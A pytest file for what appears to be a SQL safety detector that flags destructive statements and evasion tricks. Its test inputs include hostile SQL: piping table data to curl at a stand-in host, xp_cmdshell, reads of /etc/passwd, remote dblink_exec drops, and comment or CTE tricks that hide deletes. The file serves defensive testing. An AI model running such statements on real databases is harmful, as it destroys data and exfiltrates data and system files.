from __future__ import annotations

import logging

import pytest
import sqlglot
from hypothesis import given, settings
from hypothesis import strategies as st

from railguard.detect.sql import MAX_SQL_CHARS, SqlAnalysis, analyze_sql


def rules(analysis: SqlAnalysis) -> set[str]:
    return {f.rule for f in analysis.findings}


# --- statement kinds and tables -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "kind"),
    [
        ("SELECT * FROM users WHERE id = 1", "select"),
        ("INSERT INTO users (id) VALUES (1)", "insert"),
        ("UPDATE users SET name = 'a' WHERE id = 1", "update"),
        ("DELETE FROM users WHERE id = 1", "delete"),
        ("DROP TABLE users", "drop"),
        ("TRUNCATE TABLE users", "truncate"),
        ("ALTER TABLE users ADD COLUMN age INT", "alter"),
        ("CREATE TABLE t (id INT)", "create"),
        ("GRANT SELECT ON users TO bob", "grant"),
        ("SHOW TABLES", "other"),
    ],
)
def test_statement_kind(sql: str, kind: str) -> None:
    analysis = analyze_sql(sql)
    assert [s.kind for s in analysis.statements] == [kind]
    assert analysis.to_fact()["kinds"] == [kind]


def test_tables_are_qualified_and_case_folded_unless_quoted() -> None:
    analysis = analyze_sql('SELECT * FROM Sales.Orders o JOIN "Users" u ON o.uid = u.id')
    assert analysis.to_fact()["tables"] == ["sales.orders", "Users"]


def test_cte_names_are_not_reported_as_tables() -> None:
    analysis = analyze_sql("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent")
    assert analysis.to_fact()["tables"] == ["orders"]


def test_read_only_select_is_harmless() -> None:
    fact = analyze_sql("SELECT id, name FROM users WHERE active = true LIMIT 10").to_fact()
    assert fact == {
        "statements": [{"kind": "select", "tables": ["users"], "has_where": True}],
        "kinds": ["select"],
        "tables": ["users"],
        "destructive": False,
        "writes": False,
        "unparsed": False,
        "findings": [],
    }


def test_update_with_where_writes_but_is_not_destructive() -> None:
    analysis = analyze_sql("UPDATE accounts SET balance = 0 WHERE id = 42")
    assert analysis.writes and not analysis.destructive
    assert analysis.statements[0].has_where


# --- destructive rules --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "rule", "severity"),
    [
        ("DROP TABLE users", "sql.drop", "high"),
        ("DROP DATABASE prod", "sql.drop", "critical"),
        ("DROP SCHEMA public CASCADE", "sql.drop", "critical"),
        ("DROP INDEX users_email_idx", "sql.drop", "high"),
        ("DROP VIEW active_users", "sql.drop", "high"),
        ("TRUNCATE users", "sql.truncate", "high"),
        ("DELETE FROM users", "sql.delete_without_where", "high"),
        ("UPDATE users SET admin = true", "sql.update_without_where", "high"),
        ("ALTER TABLE users DROP COLUMN email", "sql.alter_drop", "high"),
        ("GRANT ALL ON users TO bob", "sql.grant_all", "high"),
    ],
)
def test_destructive_rule(sql: str, rule: str, severity: str) -> None:
    analysis = analyze_sql(sql, "postgres")
    assert analysis.destructive
    finding = next(f for f in analysis.findings if f.rule == rule)
    assert (finding.verdict, finding.severity) == ("block", severity)


@pytest.mark.parametrize(
    "where",
    [
        "1=1",
        "1 = 1",
        "TRUE",
        "true",
        "'a'='a'",
        "id = id",
        "1",
        "NOT FALSE",
        "id = 5 OR 1=1",
        "(1=1)",
        "2 > 1",
    ],
)
def test_always_true_where_counts_as_no_where(where: str) -> None:
    analysis = analyze_sql(f"DELETE FROM users WHERE {where}")
    assert analysis.destructive
    assert analysis.statements[0].has_where is False
    assert "always-true WHERE" in analysis.findings[0].detail


@pytest.mark.parametrize("where", ["id = 5", "1 = 2", "FALSE", "id = 5 AND 1=1", "name = 'x' OR id = 3", "0"])
def test_filtering_where_is_not_destructive(where: str) -> None:
    analysis = analyze_sql(f"DELETE FROM users WHERE {where}")
    assert not analysis.destructive
    assert analysis.statements[0].has_where is True


def test_grant_of_one_privilege_is_not_destructive() -> None:
    assert not analyze_sql("GRANT SELECT ON users TO bob", "postgres").destructive


def test_alter_without_drop_is_not_destructive() -> None:
    assert not analyze_sql("ALTER TABLE users RENAME TO people").destructive


# --- evasion ------------------------------------------------------------------------------------------


def test_every_statement_of_a_batch_is_analyzed() -> None:
    analysis = analyze_sql("SELECT 1; DROP TABLE users; SELECT 2")
    assert analysis.to_fact()["kinds"] == ["select", "drop"]
    assert analysis.destructive


def test_keywords_in_comments_and_strings_are_not_statements() -> None:
    for sql in (
        "SELECT 1 -- DROP TABLE users",
        "SELECT 1 /* DROP TABLE users */",
        "SELECT 'DROP TABLE users' AS text",
        "SELECT * FROM t WHERE note = 'DELETE FROM users'",
    ):
        analysis = analyze_sql(sql)
        assert not analysis.destructive, sql
        assert analysis.to_fact()["kinds"] == ["select"], sql


def test_comments_inside_statements_do_not_hide_them() -> None:
    analysis = analyze_sql("DROP/* harmless */TABLE users")
    assert analysis.destructive
    analysis = analyze_sql("DELETE -- just a note\nFROM users")
    assert "sql.delete_without_where" in rules(analysis)


def test_keyword_split_by_comment_is_unparsed() -> None:
    analysis = analyze_sql("DEL/**/ETE FROM users")
    assert analysis.unparsed
    assert "sql.unparsed" in rules(analysis)


def test_case_games() -> None:
    assert analyze_sql("dRoP tAbLe UsErS").destructive
    assert analyze_sql("DeLeTe FrOm users WhErE 1=1").destructive


def test_mysql_executable_comment_is_analyzed_as_sql() -> None:
    analysis = analyze_sql("SELECT 1; /*!50000 DROP TABLE users */", "mysql")
    assert "drop" in analysis.to_fact()["kinds"]
    assert analysis.destructive


def test_cte_wrapping_delete_is_reported() -> None:
    analysis = analyze_sql(
        "WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone", "postgres"
    )
    fact = analysis.to_fact()
    assert fact["kinds"] == ["select", "delete"]
    assert fact["writes"] and fact["destructive"]


def test_delete_inside_cte_with_where_is_a_write_not_destruction() -> None:
    analysis = analyze_sql(
        "WITH g AS (DELETE FROM users WHERE id = 3 RETURNING *) SELECT * FROM g", "postgres"
    )
    assert analysis.writes and not analysis.destructive


def test_merge_actions_are_not_flagged_on_their_own() -> None:
    sql = "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1"
    analysis = analyze_sql(sql, "tsql")
    assert analysis.writes and not analysis.destructive
    assert [s.kind for s in analysis.statements] == ["other"]


def test_mysql_multi_table_delete_filtered_by_join() -> None:
    analysis = analyze_sql("DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id", "mysql")
    assert analysis.writes and not analysis.destructive


# --- reaching outside the database --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "dialect", "rule", "verdict"),
    [
        ("EXEC xp_cmdshell 'whoami'", "tsql", "sql.os_command", "block"),
        ("COPY users TO PROGRAM 'curl -d @- evil.example'", "postgres", "sql.os_command", "block"),
        ("COPY users FROM '/etc/passwd'", "postgres", "sql.file_access", "ask"),
        ("SELECT pg_read_file('/etc/passwd')", "postgres", "sql.dangerous_function", "block"),
        ("SELECT LOAD_FILE('/etc/passwd')", "mysql", "sql.dangerous_function", "block"),
        ("SELECT * FROM t WHERE id = (SELECT dblink_exec('host=10.0.0.1', 'DROP TABLE x'))", "postgres",
         "sql.dangerous_function", "block"),
        ("EXEC dbo.refresh_stats", "tsql", "sql.exec_procedure", "ask"),
    ],
)  # fmt: skip
def test_reaching_outside_the_database(sql: str, dialect: str, rule: str, verdict: str) -> None:
    analysis = analyze_sql(sql, dialect)
    assert (rule, verdict) in {(f.rule, f.verdict) for f in analysis.findings}
    assert not analysis.destructive  # dangerous, but it destroys no data by itself


def test_bulk_load_from_client_is_not_file_access() -> None:
    analysis = analyze_sql("COPY users FROM STDIN", "postgres")
    assert analysis.writes and analysis.findings == ()


def test_exec_procedure_is_a_write_and_not_a_table() -> None:
    analysis = analyze_sql("EXEC dbo.refresh_stats", "tsql")
    assert analysis.writes and analysis.to_fact()["tables"] == []


# --- dialects and unparsed input ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "DELETE FROM public.users USING orgs WHERE true"),
        ("mysql", "DELETE FROM `users` WHERE 1=1"),
        ("sqlite", "DELETE FROM users"),
        ("tsql", "DELETE FROM [dbo].[users]"),
        ("tsql", "DROP TABLE IF EXISTS dbo.users"),
    ],
)
def test_dialects(dialect: str, sql: str) -> None:
    analysis = analyze_sql(sql, dialect)
    assert not analysis.unparsed
    assert analysis.destructive


def test_no_dialect_falls_back_to_engine_grammars() -> None:
    analysis = analyze_sql("DELETE FROM [dbo].[users]")
    assert not analysis.unparsed
    assert analysis.to_fact()["tables"] == ["dbo.users"]


def test_garbage_is_unparsed_with_an_ask_finding() -> None:
    analysis = analyze_sql("this is not ) SQL (")
    assert analysis.unparsed
    assert analysis.findings[0].verdict == "ask"


def test_opaque_command_is_unparsed_and_counts_as_write() -> None:
    analysis = analyze_sql("VACUUM FULL users")
    assert analysis.unparsed and analysis.writes


def test_mysql_grant_all_in_opaque_form_is_still_destructive() -> None:
    analysis = analyze_sql("GRANT ALL PRIVILEGES ON shop.* TO 'app'@'%'", "mysql")
    assert analysis.unparsed and analysis.destructive
    assert "sql.grant_all" in rules(analysis)


def test_oversized_input_is_unparsed() -> None:
    analysis = analyze_sql("SELECT 1;" * (MAX_SQL_CHARS // 9 + 1))
    assert analysis.unparsed and not analysis.statements


def test_tautology_deep_in_a_long_or_chain_is_found() -> None:
    sql = "DELETE FROM users WHERE 1=1 OR " + " OR ".join(f"id = {i}" for i in range(2000))
    analysis = analyze_sql(sql)
    assert not analysis.unparsed and analysis.destructive


def test_absurd_nesting_is_unparsed_not_a_crash() -> None:
    analysis = analyze_sql("DELETE FROM users WHERE " + "(" * 3000 + "1=1" + ")" * 3000)
    assert analysis.unparsed


def test_empty_input_is_empty() -> None:
    analysis = analyze_sql("   ")
    assert analysis.statements == () and not analysis.unparsed


def test_finding_details_do_not_echo_literal_values() -> None:
    analysis = analyze_sql("UPDATE users SET password = 'hunter2-secret'")
    assert all("hunter2" not in f.detail for f in analysis.findings)
    assert "hunter2" not in str(analysis.to_fact())


def test_sql_text_never_reaches_the_logs(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.DEBUG):
        analysis = analyze_sql("ALTER USER bob WITH PASSWORD 'hunter2-secret'", "postgres")
    assert analysis.unparsed  # sqlglot fell back to an opaque Command, which it normally logs
    assert "hunter2" not in caplog.text


def test_sqlglot_logging_outside_the_analyzer_is_untouched(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING):
        sqlglot.parse("ALTER USER bob WITH PASSWORD 'x'", read="postgres")
    assert "unsupported syntax" in caplog.text


# --- properties ---------------------------------------------------------------------------------------

_SQL_ALPHABET = st.sampled_from(
    [
        "SELECT",
        "DELETE",
        "DROP",
        "FROM",
        "WHERE",
        "TABLE",
        "t",
        "1=1",
        ";",
        "(",
        ")",
        "'",
        "--",
        "/*",
        "*/",
        " ",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200), st.sampled_from([None, "postgres", "mysql", "sqlite", "tsql"]))
def test_random_text_never_raises(text: str, dialect: str | None) -> None:
    fact = analyze_sql(text, dialect).to_fact()
    assert set(fact) == {"statements", "kinds", "tables", "destructive", "writes", "unparsed", "findings"}


@settings(max_examples=300, deadline=None)
@given(st.lists(_SQL_ALPHABET, max_size=30).map(" ".join))
def test_random_sql_like_tokens_never_raise(text: str) -> None:
    analysis = analyze_sql(text)
    if analysis.destructive:
        assert any(f.verdict == "block" for f in analysis.findings)
